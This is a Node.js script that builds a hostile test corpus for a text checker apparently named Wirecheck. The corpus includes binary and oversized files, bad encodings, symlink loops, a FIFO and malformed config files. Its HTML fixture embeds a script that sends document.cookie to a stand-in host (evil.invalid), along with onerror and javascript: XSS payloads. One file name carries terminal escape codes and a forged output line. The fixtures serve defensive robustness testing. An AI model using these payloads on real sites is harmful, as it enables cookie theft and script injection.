#!/usr/bin/env node
// Builds a corpus of everything a scraped folder can throw at Wirecheck: the five seeds plus a
// binary file named .txt, a 60 MB dump, invalid UTF-8, UTF-16 with a BOM, an empty file, page
// furniture only, a 2 MB line, symbolic-link loops, an unreadable file, hostile HTML, a FIFO, a
// file name with control characters, a malformed .wirecheck.json and, with --many, a folder of
// tiny files. Large files are made at run time (sparse), never committed.
//
//   node scripts/make-hostile-corpus.mjs [dir] [--many[=N]] [--manifest]
//
// dir defaults to test/fixtures/hostile (gitignored); it must be new, empty or made by this script
// before, and is emptied first. --many writes N tiny articles (100,000 when no N) under many/.
// --manifest prints what was made as JSON on stdout.
import { execFileSync } from 'node:child_process';
import { chmodSync, closeSync, copyFileSync, existsSync, ftruncateSync, mkdirSync, openSync, readdirSync, rmSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const MB = 1024 * 1024;

/** Role → file name (relative to the corpus folder), so tests never repeat the names. */
export const HOSTILE_FILES = {
  binary: 'photo.txt',
  tooLarge: 'dump.txt',
  invalidUtf8: 'latin1.txt',
  utf16: 'utf16le-bom.txt',
  empty: 'empty.txt',
  furnitureOnly: 'menu-only.txt',
  longLine: 'one-line.txt',
  loopA: 'loop-a.txt',
  loopB: 'loop-b.txt',
  dangling: 'dangling.txt',
  selfFolder: 'nest',
  selfFolderFile: 'nest/inner.txt',
  selfLink: 'nest/self',
  unreadable: 'locked.txt',
  html: 'page.html',
  fifo: 'pipe.txt',
  controlName: 'bad\u001b[31mname\nwirecheck: forged line.txt',
  neverScanned: 'node_modules/pkg/readme.txt',
  style: '.wirecheck.json',
  styleWrongTypes: 'wrong-types.json',
  many: 'many',
};

/** Writes the hostile corpus into `dir` (emptied first); returns what was made and what could not be. */
export function makeHostileCorpus(dir, { many = 0, seedsDir = path.join(ROOT, 'seeds') } = {}) {
  emptyFolder(dir);
  const at = (name) => path.join(dir, name);
  const seeds = readdirSync(seedsDir).filter((n) => n.endsWith('.txt')).sort();
  for (const name of seeds) copyFileSync(path.join(seedsDir, name), at(name));
  writeFileSync(at(HOSTILE_FILES.binary), binaryBytes());
  writeSparseDump(at(HOSTILE_FILES.tooLarge), 60 * MB);
  writeFileSync(at(HOSTILE_FILES.invalidUtf8), Buffer.from(LATIN1_ARTICLE, 'latin1'));
  writeFileSync(at(HOSTILE_FILES.utf16), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(UTF16_ARTICLE, 'utf16le')]));
  writeFileSync(at(HOSTILE_FILES.empty), '');
  writeFileSync(at(HOSTILE_FILES.furnitureOnly), FURNITURE);
  writeFileSync(at(HOSTILE_FILES.longLine), longLine(2 * MB));
  symlinkSync(HOSTILE_FILES.loopB, at(HOSTILE_FILES.loopA));
  symlinkSync(HOSTILE_FILES.loopA, at(HOSTILE_FILES.loopB));
  symlinkSync('missing-target.txt', at(HOSTILE_FILES.dangling));
  mkdirSync(at(HOSTILE_FILES.selfFolder));
  writeFileSync(at(HOSTILE_FILES.selfFolderFile), NEST_ARTICLE);
  symlinkSync('../nest', at(HOSTILE_FILES.selfLink));
  writeFileSync(at(HOSTILE_FILES.unreadable), LOCKED_ARTICLE);
  chmodSync(at(HOSTILE_FILES.unreadable), 0o000);
  writeFileSync(at(HOSTILE_FILES.html), HOSTILE_HTML);
  const fifo = makeFifo(at(HOSTILE_FILES.fifo));
  writeFileSync(at(HOSTILE_FILES.controlName), binaryBytes());
  mkdirSync(path.dirname(at(HOSTILE_FILES.neverScanned)), { recursive: true });
  writeFileSync(at(HOSTILE_FILES.neverScanned), binaryBytes());
  writeFileSync(at(HOSTILE_FILES.style), BROKEN_STYLE);
  writeFileSync(at(HOSTILE_FILES.styleWrongTypes), WRONG_TYPES_STYLE);
  if (many > 0) writeManyTinyFiles(at(HOSTILE_FILES.many), many);
  return {
    dir,
    seeds,
    files: HOSTILE_FILES,
    many,
    fifo,
    // root (and CAP_DAC_OVERRIDE) reads a chmod 000 file anyway: then that case cannot be shown here
    unreadableIsReadable: canRead(at(HOSTILE_FILES.unreadable)),
  };
}

/** Marks a folder this script made, so that emptying it never deletes anything else. */
const MARKER = '.hostile-corpus';

function emptyFolder(dir) {
  if (existsSync(dir) && readdirSync(dir).length && !existsSync(path.join(dir, MARKER))) {
    throw new Error(`${dir} is not empty and was not made by this script; give a new or empty folder`);
  }
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, MARKER), 'made by scripts/make-hostile-corpus.mjs; emptied on the next run\n');
}

function binaryBytes() {
  const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61', 'hex');
  const zip = Buffer.from('504b0304140000000800000000000000000000000000000000000800000064617461', 'hex');
  return Buffer.concat([png, Buffer.from('Sergey Shoigu defense\n'), zip, Buffer.alloc(64)]);
}

/** A real-looking start, then a hole up to `size`: the size is what matters, not the bytes. */
function writeSparseDump(file, size) {
  const fd = openSync(file, 'w');
  try {
    writeSync(fd, 'DATABASE DUMP\n' + 'INSERT INTO articles VALUES (1, \'Sergey Shoigu\');\n'.repeat(1000));
    ftruncateSync(fd, size);
  } finally {
    closeSync(fd);
  }
}

/** One line of plain prose, `bytes` long, with no line break at all. */
function longLine(bytes) {
  const sentences = [
    'The harbour board of Port Elbrun met again on a grey afternoon to discuss the ferry timetable.',
    'Officials said the old pier would stay open while engineers inspected the pillars.',
    'Several fishermen asked whether the new schedule would leave room for the early catch.',
    'A spokeswoman for the board declined to give a date for the next public hearing.',
  ];
  const parts = [];
  let length = 0;
  for (let i = 0; length < bytes; i++) {
    const s = sentences[i % sentences.length];
    parts.push(s);
    length += s.length + 1;
  }
  return parts.join(' ').slice(0, bytes);
}

function makeFifo(file) {
  try {
    execFileSync('mkfifo', [file], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function canRead(file) {
  try {
    closeSync(openSync(file, 'r'));
    return true;
  } catch {
    return false;
  }
}

function writeManyTinyFiles(folder, count) {
  mkdirSync(folder, { recursive: true });
  const width = String(count).length;
  for (let i = 1; i <= count; i++) {
    const n = String(i).padStart(width, '0');
    writeFileSync(path.join(folder, `note-${n}.txt`), `Notice ${n}\nThe reading room closes early on day ${i % 28 + 1} for cleaning.\n`);
  }
}

// A Windows-1252 article: é, ü and the euro-less Latin-1 range are single bytes, invalid as UTF-8.
const LATIN1_ARTICLE = `Café owners in Zürich protest new opening hours
ZURICH – Owners of more than forty cafés gathered in front of the city hall on Tuesday.
They said the rules would hurt small businesses in the old town.
`;

// A different story, saved as UTF-16 LE with a BOM and CRLF line ends. 4 March 2025 was a Tuesday,
// so its "Monday, March 4, 2025" is a weekday-mismatch the engine can only find by reading it.
const UTF16_ARTICLE = [
  'Lyon opens its fifth tram line after two years of works',
  'LYON, March 5, 2025 – The city of Lyon opened its fifth tram line on Monday, March 4, 2025, after two years of works along the river.',
  'The new line links the main railway station with the eastern suburbs and is expected to carry 40,000 passengers a day.',
  'Mayor Claire Duval said the line would cut journeys for thousands of commuters, and that a sixth line is being studied.',
  'Tickets bought for the old bus route remain valid on the tram until the end of the year.',
  '',
].join('\r\n');

const FURNITURE = `Home | World | Business | Sport | Culture | Contact
Subscribe to our newsletter
Share on Facebook
Share on Twitter
Most read
Related articles
© 2024 Example Media Group. All rights reserved.
Terms of use | Privacy policy | Cookie settings
`;

const NEST_ARTICLE = `Library extends weekend hours in Port Elbrun
The municipal library of Port Elbrun will open on Sunday mornings from next month, its director said on Friday.
The change follows a petition signed by more than 1,200 readers.
`;

const LOCKED_ARTICLE = `Bakers in Port Elbrun raise bread prices
Bakers in Port Elbrun raised the price of a loaf by ten cents on Friday, citing the cost of flour.
`;

// Scripts, event handlers and javascript: links must never reach the checks, nor run anywhere.
const HOSTILE_HTML = `<!doctype html>
<html><head><title>Museum reopens after flood repairs</title>
<script>document.write('Sergei Shoigu defense programme Viet Nam'); fetch('https://evil.invalid/?c=' + document.cookie);</script>
<style>body::after { content: "Sergey Shoigu defence"; }</style>
</head>
<body onload="alert('Sergei Shoigu')">
<nav><a href="javascript:alert('nav')">Home</a> | <a href="javascript:void(0)">World</a></nav>
<article>
<h1>Museum reopens after flood repairs</h1>
<p>The river museum of Port Elbrun reopened on Saturday after eight months of repairs.<img src="x" onerror="alert('Sergei Shoigu defense')"></p>
<p>Its curator said <a href="javascript:alert(document.domain)" onclick="steal()">the collection</a> had been moved to a dry store in time.</p>
<script type="text/javascript">var s = "Sergei Shoigu"; /* </p><p>not text */</script>
<p>Visitors will pay the same entrance fee as before the flood.</p>
</article>
<noscript><p>Enable JavaScript for the Sergei Shoigu gallery.</p></noscript>
</body></html>
`;

// Trailing garbage after the object: a parse error with a line and a column.
const BROKEN_STYLE = `{
  "preferred": ["Sergei Shoigu"],
  "locale": "us"
} trailing garbage
`;

// Well-formed JSON with every field of the wrong type.
const WRONG_TYPES_STYLE = `{
  "preferred": "Sergei Shoigu",
  "locale": 7,
  "dateOrder": ["DMY"],
  "ignore": [1, 2],
  "rules": { "name-variant": "loud", "no-such-rule": "off" }
}
`;

function main(argv) {
  const args = argv.filter((a) => !a.startsWith('--'));
  const manyFlag = argv.find((a) => a === '--many' || a.startsWith('--many='));
  const many = !manyFlag ? 0 : manyFlag === '--many' ? 100_000 : Number(manyFlag.slice('--many='.length));
  if (!Number.isInteger(many) || many < 0) throw new Error('--many takes a whole number');
  const dir = path.resolve(args[0] ?? path.join(ROOT, 'test/fixtures/hostile'));
  const started = performance.now();
  const made = makeHostileCorpus(dir, { many });
  if (argv.includes('--manifest')) {
    process.stdout.write(JSON.stringify(made) + '\n');
    return;
  }
  const ms = Math.round(performance.now() - started);
  process.stdout.write(`hostile corpus in ${dir} (${ms} ms)${many ? `, ${many} tiny files in many/` : ''}\n`);
  if (!made.fifo) process.stdout.write('note: mkfifo is not available, no FIFO was made\n');
  if (made.unreadableIsReadable) process.stdout.write(`note: ${HOSTILE_FILES.unreadable} is chmod 000 but still readable (running as root?)\n`);
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  try {
    main(process.argv.slice(2));
  } catch (err) {
    process.stderr.write(`make-hostile-corpus: ${err.message}\n`);
    process.exitCode = 1;
  }
}
